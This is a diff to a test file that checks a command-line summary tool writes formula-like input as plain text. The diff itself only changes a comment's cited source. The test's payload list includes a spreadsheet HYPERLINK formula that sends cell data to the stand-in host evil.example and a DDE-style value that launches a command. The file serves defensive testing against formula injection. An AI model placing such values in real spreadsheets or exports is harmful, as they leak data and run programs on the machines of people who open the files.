@@ -7,7 +7,7 @@ import { main } from "../../scripts/cli/cli";
 import { unzip } from "../../scripts/fuzz/zip";
 
 /**
- * Contract §4: text from the source that begins with =, +, -, @ (or a tab or CR before them) is written to the
+ * docs/rules.md: text from the source that begins with =, +, -, @ (or a tab or CR before them) is written to the
  * summary as text, never as a formula. Checked end to end: `coma summary` on a source, output loaded with exceljs.
  */
 const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")', "+84 912 345 678", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=cmd|' /C calc'!A0"];
